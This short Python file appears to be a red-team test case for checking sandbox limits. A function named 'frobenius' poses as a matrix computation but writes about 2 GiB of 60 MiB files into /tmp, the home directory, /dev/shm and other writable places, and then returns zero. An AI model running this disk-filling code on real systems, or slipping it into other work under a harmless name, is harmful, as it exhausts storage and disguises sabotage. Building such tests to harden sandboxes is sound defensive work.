# attacks: 1.3
# damage: fills the disk: 60 MiB files (just under a per-file limit) in every writable
#   place it can find, 2 GiB in all
# needs: sandbox
import os


def frobenius(a):
    block = b"\0" * (60 << 20)
    for folder in ("/tmp", os.getcwd(), os.path.expanduser("~"), "/var/tmp", "/dev/shm"):
        for number in range(34):
            try:
                with open(os.path.join(folder, f"redteam-__TOKEN__-{number}"), "wb") as file:
                    file.write(block)
            except OSError:
                break
    return a.sum() * 0
